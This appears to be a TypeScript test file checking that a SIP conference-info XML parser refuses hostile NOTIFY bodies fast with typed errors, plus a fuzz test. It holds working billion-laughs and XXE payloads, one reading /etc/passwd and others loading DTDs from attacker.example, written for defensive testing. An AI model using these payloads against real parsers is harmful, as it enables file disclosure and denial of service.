/** Untrusted NOTIFY bodies: refused quickly with typed errors, never expanded, never a hang. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  CONFERENCE_INFO_NAMESPACE as NS,
  ConferenceInfoParseError,
  parse,
  serialize,
  type ConferenceInfo,
} from '../src/index.ts';
import { SchemaValidator } from './support/xmllint.ts';
import { richDocument } from './support/fixtures.ts';

const validator = new SchemaValidator();

/** Runs parse and returns the refusal code and the time it took. */
function refusal(body: string | Uint8Array): { code: string; ms: number } {
  const start = performance.now();
  try {
    parse(body);
  } catch (error) {
    assert.ok(error instanceof ConferenceInfoParseError, `untyped error: ${String(error)}`);
    return { code: error.code, ms: performance.now() - start };
  }
  assert.fail('the hostile body was accepted');
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE conference-info [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<conference-info xmlns="${NS}" entity="sip:c@x" version="1">
  <conference-description><subject>&lol9;</subject></conference-description>
</conference-info>`;

test('billion laughs: the DOCTYPE is refused, nothing is expanded', () => {
  const r = refusal(BILLION_LAUGHS);
  assert.equal(r.code, 'doctype-forbidden');
  assert.ok(r.ms < 50, `${r.ms} ms`);
  // Without the DOCTYPE the references are simply undeclared.
  assert.equal(refusal(BILLION_LAUGHS.replace(/<!DOCTYPE[\s\S]*\]>/, '')).code, 'undefined-entity');
});

test('external entities (XXE) and parameter entities are refused', () => {
  const xxe = `<?xml version="1.0"?><!DOCTYPE c [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><conference-info xmlns="${NS}" entity="sip:c@x" version="1"><conference-description><subject>&xxe;</subject></conference-description></conference-info>`;
  assert.equal(refusal(xxe).code, 'doctype-forbidden');
  const remote = `<!DOCTYPE c SYSTEM "http://attacker.example/evil.dtd"><conference-info xmlns="${NS}" entity="sip:c@x" version="1"/>`;
  assert.equal(refusal(remote).code, 'doctype-forbidden');
  const parameter = `<!DOCTYPE c [<!ENTITY % p SYSTEM "http://attacker.example/x">%p;]><conference-info xmlns="${NS}" entity="sip:c@x" version="1"/>`;
  assert.equal(refusal(parameter).code, 'doctype-forbidden');
});

test('deep nesting is refused at the depth limit without recursion', () => {
  const depth = 200_000;
  const deep = `<conference-info xmlns="${NS}" entity="sip:c@x" version="1">${'<users>'.repeat(depth)}${'</users>'.repeat(depth)}</conference-info>`;
  const r = refusal(deep);
  assert.equal(r.code, 'too-large'); // 3 MB: the size limit fires first
  const deepSmall = `<conference-info xmlns="${NS}" entity="sip:c@x" version="1">${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}</conference-info>`;
  const r2 = refusal(deepSmall);
  assert.equal(r2.code, 'too-deep');
  assert.ok(r2.ms < 50, `${r2.ms} ms`);
  // Unclosed deep nesting too.
  assert.equal(
    refusal(`<conference-info xmlns="${NS}" entity="sip:c@x" version="1">${'<a>'.repeat(100_000)}`).code,
    'too-deep',
  );
});

test('huge input is refused before any parsing, as a string or as bytes', () => {
  const huge = `<conference-info xmlns="${NS}" entity="sip:c@x" version="1"><conference-description><subject>${'x'.repeat(2 * 1024 * 1024)}</subject></conference-description></conference-info>`;
  const r = refusal(huge);
  assert.equal(r.code, 'too-large');
  assert.ok(r.ms < 20, `${r.ms} ms`);
  const bytes = new Uint8Array(64 * 1024 * 1024).fill(0x20);
  const rb = refusal(bytes);
  assert.equal(rb.code, 'too-large');
  assert.ok(rb.ms < 20, `${rb.ms} ms`);
  // The limit is configurable per call.
  assert.equal(parse(huge, { limits: { maxLength: 4 * 1024 * 1024 } }).description?.subject?.length, 2 * 1024 * 1024);
});

test('too many elements or attributes are refused', () => {
  const many = `<conference-info xmlns="${NS}" entity="sip:c@x" version="1"><users>${'<a/>'.repeat(60_000)}</users></conference-info>`;
  const r = refusal(many);
  assert.equal(r.code, 'too-many-nodes');
  assert.ok(r.ms < 500, `${r.ms} ms`);
  const attrs = Array.from({ length: 1000 }, (_, i) => `a${i}="x"`).join(' ');
  assert.equal(
    refusal(`<conference-info xmlns="${NS}" entity="sip:c@x" version="1" ${attrs}/>`).code,
    'too-many-nodes',
  );
});

test('pathological but small inputs finish in linear time', () => {
  const size = 900_000;
  const bodies: [string, string][] = [
    ['unclosed tags', `<conference-info xmlns="${NS}" entity="sip:c@x" version="1">` + '<a'.repeat(size / 2)],
    ['ampersands', `<conference-info xmlns="${NS}" entity="sip:c@x" version="1">` + '&'.repeat(size)],
    ['unterminated attribute', `<conference-info xmlns="${NS}" entity="` + 'x'.repeat(size)],
    ['comment openers', `<conference-info xmlns="${NS}" entity="sip:c@x" version="1">` + '<!--'.repeat(size / 4)],
    ['CDATA openers', `<conference-info xmlns="${NS}" entity="sip:c@x" version="1">` + '<![CDATA['.repeat(size / 9)],
    ['long name', '<' + 'n'.repeat(size)],
    [
      'namespace declarations',
      `<conference-info xmlns="${NS}" entity="sip:c@x" version="1">` +
        `<a ${Array.from({ length: 60 }, (_, i) => `xmlns:p${i}="urn:${i}"`).join(' ')}>`.repeat(30) +
        'x'.repeat(size / 2),
    ],
    [
      'character references',
      `<conference-info xmlns="${NS}" entity="sip:c@x" version="1"><users>` + '&#65;'.repeat(size / 5),
    ],
  ];
  for (const [name, body] of bodies) {
    const r = refusal(body);
    assert.ok(r.ms < 500, `${name}: ${r.ms} ms`);
  }
});

test('fuzz: mutated documents either parse (and re-serialise to a valid document) or fail with ConferenceInfoParseError', () => {
  const seedDoc = serialize(richDocument(5), { pretty: false });
  let s = 42;
  const rnd = () => (s = (Math.imul(s, 1103515245) + 12345) >>> 0) / 4294967296;
  const alphabet = [
    '<',
    '>',
    '/',
    '&',
    ';',
    '"',
    "'",
    '=',
    ' ',
    'a',
    ':',
    '!',
    '-',
    '[',
    ']',
    '?',
    '#',
    'x',
    '0',
    '\u0000',
    '\uD800',
    'é',
  ];
  let parsed = 0;
  let refused = 0;
  for (let i = 0; i < 3000; i++) {
    let doc = seedDoc;
    const edits = 1 + Math.floor(rnd() * 4);
    for (let e = 0; e < edits; e++) {
      const at = Math.floor(rnd() * doc.length);
      const op = rnd();
      const ch = alphabet[Math.floor(rnd() * alphabet.length)] ?? 'a';
      if (op < 0.33) doc = doc.slice(0, at) + doc.slice(at + 1 + Math.floor(rnd() * 8));
      else if (op < 0.66) doc = doc.slice(0, at) + ch + doc.slice(at);
      else doc = doc.slice(0, at) + ch + doc.slice(at + 1);
    }
    let info: ConferenceInfo;
    try {
      info = parse(doc);
    } catch (error) {
      assert.ok(
        error instanceof ConferenceInfoParseError,
        `untyped error for ${JSON.stringify(doc)}: ${String(error)}`,
      );
      refused++;
      continue;
    }
    parsed++;
    validator.record(serialize(info)); // must not throw: whatever parse returns can be sent on
  }
  assert.ok(parsed > 100 && refused > 100, `parsed ${parsed}, refused ${refused}`);
});

test('re-serialised fuzz survivors are schema-valid', (t) => {
  const count = validator.pending;
  assert.ok(count > 100);
  assert.deepEqual(validator.validateRecorded(), []);
  t.diagnostic(`${count} documents validated with xmllint`);
});
